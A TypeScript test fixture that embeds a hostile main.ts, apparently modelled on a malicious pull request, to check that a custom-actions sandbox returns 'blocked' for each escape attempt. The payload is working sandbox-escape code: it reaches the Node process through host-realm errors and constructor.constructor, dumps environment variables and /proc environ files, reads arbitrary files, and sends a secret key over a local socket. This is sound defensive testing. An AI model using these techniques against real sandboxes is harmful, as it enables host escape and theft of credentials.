/**
 * A hostile main.ts, as a pull request could bring it to a pipeline's `custom-actions test` or to the
 * Testing view's Local profile, and its cases: each attempt to get out (docs/security.md, *Round
 * three*) returns 'blocked', or what it got.
 */
import { actionMetadata } from './metadata';
import { PROBE } from '../sandbox/escapeProbe';

export const ATTEMPT = actionMetadata({
  key: 'attempt',
  name: 'Attempt',
  parameters: [
    { name: 'what', type: 'text' },
    { name: 'target', type: 'text' },
  ],
});

/**
 * main.ts of a hostile pull request: each attempt returns 'blocked', or what it got. Objects of the
 * process's own realm come from Node's own callbacks under stack exhaustion (escapeProbe.ts): with
 * code generation from strings allowed there, `constructor.constructor('return process')()` on them
 * is the process, and with it `require`'s modules.
 */
export const ATTEMPT_MAIN = `${PROBE}
const KEY = 'CUSTOM_ACTIONS_KEY';
async function harnessRealmErrors() {
  const found = [];
  const rejections = [];
  // Each import's promise, settled once its rejection is in: waited for, not given a pause.
  const imports = [];
  const at = [
    () => void new Error('x').stack,
    () => { const o = {}; Error.captureStackTrace(o); void o.stack; },
    () => { imports[imports.length] = eval("import('node:fs')").then(null, (e) => { rejections[rejections.length] = e; }); },
  ];
  for (const fn of at) for (const e of collectUnderExhaustion(fn, undefined, [])) found.push(e);
  await Promise.all(imports);
  return [...found, ...rejections].filter(isForeign);
}
async function escaped() {
  for (const e of await harnessRealmErrors()) { const p = processThrough(e); if (p) return p; }
  return undefined;
}
const load = (p, name) => (p.getBuiltinModule ? p.getBuiltinModule(name) : p.mainModule.require(name));
const attempts = {
  realm: async () => {
    const errors = await harnessRealmErrors();
    if (errors.length === 0) return 'nothing to try: no error of the harness realm came through';
    for (const e of errors) {
      const p = processThrough(e);
      if (p) return 'the process: ' + JSON.stringify(p.env);
      try { e.constructor.constructor('return 1'); return 'code compiled in the harness realm'; } catch {}
    }
    return 'blocked';
  },
  environ: async () => {
    const p = await escaped();
    if (!p) return 'blocked';
    const got = [];
    for (const file of ['/proc/' + p.ppid + '/environ', '/proc/self/environ']) {
      try { got.push(load(p, 'fs').readFileSync(file, 'latin1')); } catch {}
    }
    return got.length > 0 ? got.join('|') : 'blocked';
  },
  env: async () => {
    const here = typeof process === 'undefined' ? undefined : process;
    const p = here ?? (await escaped());
    return p && Object.keys(p.env).length > 0 ? JSON.stringify(p.env) : 'blocked';
  },
  strings: async () => {
    const got = [];
    const sources = [
      () => Function('return typeof process === "undefined" ? undefined : process')(),
      () => eval('typeof process === "undefined" ? undefined : process'),
      () => (0, eval)('this.process'),
    ];
    for (const source of sources) {
      try { got.push(source()); } catch {}
    }
    for (const e of await harnessRealmErrors()) {
      try { got.push(e.constructor.constructor('return process')()); } catch {}
    }
    const p = got.find((x) => x && typeof x.pid === 'number');
    return p ? 'the process: ' + JSON.stringify(p.env) : 'blocked';
  },
  file: async (target) => {
    try { return require('fs').readFileSync(target, 'utf8'); } catch {}
    const p = await escaped();
    if (!p) return 'blocked';
    try { return load(p, 'fs').readFileSync(target, 'utf8'); } catch { return 'blocked'; }
  },
  network: async (target) => {
    if (typeof fetch !== 'undefined') return 'fetch is there';
    if (typeof WebSocket !== 'undefined') return 'WebSocket is there';
    try { require('net'); return 'require gave net'; } catch {}
    const p = await escaped();
    if (!p) return 'blocked';
    return await new Promise((resolve) => {
      const socket = load(p, 'net').connect(Number(target), '127.0.0.1', () => { socket.end(p.env[KEY] ?? 'connected'); resolve('connected'); });
      socket.on('error', () => resolve('blocked'));
    });
  },
};
export async function main(what: string, target: string): Promise<string> {
  return String(await attempts[what](target));
}
`;

/** The input sets, one per attempt, each expecting 'blocked': `outside` a file to read, `port` a listener to reach. */
export function attemptCases(outside: string, port: string): Record<string, { inputs: { what: string; target: string }; expect: { result: string } }> {
  const targets: Record<string, string> = { realm: '', environ: '', env: '', strings: '', file: outside, network: port };
  return Object.fromEntries(Object.entries(targets).map(([what, target]) => [what, { inputs: { what, target }, expect: { result: 'blocked' } }]));
}
